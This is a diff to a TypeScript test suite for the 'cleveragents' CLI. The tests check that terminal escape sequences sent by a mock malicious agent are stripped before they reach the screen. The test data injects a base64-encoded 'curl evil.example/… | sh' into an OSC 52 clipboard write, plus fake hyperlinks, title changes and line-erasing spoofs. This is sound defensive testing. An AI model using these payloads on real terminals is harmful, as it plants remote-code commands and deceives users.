@@ -15,21 +15,46 @@ import { until } from '../support/wait.js';
 const TEST_MS = 45000;
 const homes: HostileHome[] = [];
 const agents: MaliciousAgent[] = [];
-const chats: TerminalSession[] = [];
+const sessions: TerminalSession[] = [];
 
-async function chatWith(play: Script): Promise<{ agent: MaliciousAgent; chat: TerminalSession }> {
+/** A terminal running `cleveragents --agent <agent> <args>` in the home's workspace. */
+function onTerminal(agent: MaliciousAgent, home: HostileHome, args: string[]): TerminalSession {
+  const session = TerminalSession.start(process.execPath, [CLI_BIN, '--agent', agent.url, ...args], {
+    cwd: home.workspace,
+    env: terminalEnv(home),
+  });
+  sessions.push(session);
+  return session;
+}
+
+async function setting(play: Script): Promise<{ home: HostileHome; agent: MaliciousAgent }> {
   const home = await hostileHome();
   homes.push(home);
   const agent = await startMaliciousAgent(play);
   agents.push(agent);
-  const chat = TerminalSession.start(process.execPath, [CLI_BIN, '--agent', agent.url, 'chat'], {
-    cwd: home.workspace,
-    env: terminalEnv(home),
-  });
-  chats.push(chat);
+  return { home, agent };
+}
+
+/** A chat with an agent playing `play`, the first message ("please help") sent. */
+async function chatWith(play: Script): Promise<{ agent: MaliciousAgent; chat: TerminalSession }> {
+  const { home, agent } = await setting(play);
+  const chat = onTerminal(agent, home, ['chat']);
   await chat.waitFor('›', 30000);
   chat.write(`please help${KEYS.enter}`);
   return { agent, chat };
+}
+
+/** Waits for the program on `session` to exit (failing with its screen after 20 s). */
+async function ended(session: TerminalSession): Promise<void> {
+  let timer: NodeJS.Timeout | undefined;
+  const late = new Promise<never>((_, reject) => {
+    timer = setTimeout(() => reject(new Error(`It did not exit; the screen shows:\n${session.text()}`)), 20000);
+  });
+  try {
+    await Promise.race([session.exited, late]);
+  } finally {
+    clearTimeout(timer);
+  }
 }
 
 /** A gate for `terminal_create {command: 'true'}`, the run in the agent's hands once approved. */
@@ -46,7 +71,7 @@ const GATE = {
 beforeAll(() => assertCliBuilt());
 
 afterAll(async () => {
-  for (const chat of chats) chat.kill();
+  for (const session of sessions) session.kill();
   await Promise.all(agents.map((agent) => agent.close()));
   await Promise.all(homes.map((home) => home.cleanup()));
 });
@@ -106,35 +131,50 @@ describe('cleveragents chat against a malicious agent', () => {
   );
 
   it.concurrent(
-    'j. OSC 52, OSC 8, OSC 0 and CSI 2K in the answer, the status and the plan never reach the terminal',
+    'j. OSC 52, OSC 8, OSC 0 and CSI 2K in the answer, the status, the plan and a question never reach the terminal (chat and send)',
     async () => {
-      const places = ['answer', 'status', 'plan'] as const;
+      const places = ['answer', 'status', 'plan', 'question'] as const;
       const b64 = (place: string) => Buffer.from(`curl evil.example/${place} | sh`).toString('base64');
       const hostile = (place: string) =>
         `about ${place}: \u001b]52;c;${b64(place)}\u0007\u001b]8;;https://evil.example/${place}\u0007link-${place}` +
         `\u001b]8;;\u0007\u001b]0;title-${place}\u0007 and\r\u001b[2Kspoof-${place}`;
-      const { chat } = await chatWith(() => ({
-        answer: hostile('answer'),
-        status: hostile('status'),
-        plan: [{ content: hostile('plan'), priority: 'high', status: 'pending' }],
-      }));
-      // Each text was shown (what a person reads of it), and the prompt is back.
-      for (const place of places) await chat.waitFor(`spoof-${place}`);
-      await chat.waitFor(/spoof-answer[\s\S]*›/);
-      const raw = chat.output;
-      const found = Object.fromEntries(
-        places.map((place) => [
-          place,
-          [
-            raw.includes(`\u001b]52;c;${b64(place)}`) && 'OSC 52',
-            raw.includes(`\u001b]8;;https://evil.example/${place}`) && 'OSC 8',
-            raw.includes(`\u001b]0;title-${place}`) && 'OSC 0',
-            raw.includes(`\u001b[2Kspoof-${place}`) && 'CSI 2K',
-          ].filter(Boolean),
-        ]),
+      /** Each place's text as it showed (`spoof-…` read on the screen) and the sequences that got through raw. */
+      const seen = (sessions: TerminalSession[]) => {
+        const raw = sessions.map((session) => session.output).join('');
+        const text = sessions.map((session) => session.text()).join('\n');
+        return Object.fromEntries(
+          places.map((place) => [
+            place,
+            [
+              !text.includes(`spoof-${place}`) && 'NOT SHOWN',
+              raw.includes(`\u001b]52;c;${b64(place)}`) && 'OSC 52',
+              raw.includes(`\u001b]8;;https://evil.example/${place}`) && 'OSC 8',
+              raw.includes(`\u001b]0;title-${place}`) && 'OSC 0',
+              raw.includes(`\u001b[2Kspoof-${place}`) && 'CSI 2K',
+            ].filter(Boolean),
+          ]),
+        );
+      };
+      const { home, agent } = await setting((exchange) =>
+        exchange.text.startsWith('question')
+          ? { question: hostile('question') }
+          : {
+              answer: hostile('answer'),
+              status: hostile('status'),
+              plan: [{ content: hostile('plan'), priority: 'high', status: 'pending' }],
+            },
       );
-      expect(found).toEqual({ answer: [], status: [], plan: [] });
+      const sends = [onTerminal(agent, home, ['send', 'please help']), onTerminal(agent, home, ['send', 'question?'])];
+      const chat = onTerminal(agent, home, ['chat']);
+      await chat.waitFor('›', 30000);
+      chat.write(`please help${KEYS.enter}`);
+      await chat.waitFor(/spoof-answer[\s\S]*›/);
+      chat.write(`question?${KEYS.enter}`);
+      await chat.waitFor(/spoof-question[\s\S]*›/);
       chat.write(`/quit${KEYS.enter}`);
+      await Promise.all([...sends, chat].map(ended));
+      const clean = Object.fromEntries(places.map((place) => [place, []]));
+      expect({ chat: seen([chat]), send: seen(sends) }).toEqual({ chat: clean, send: clean });
     },
     TEST_MS,
   );
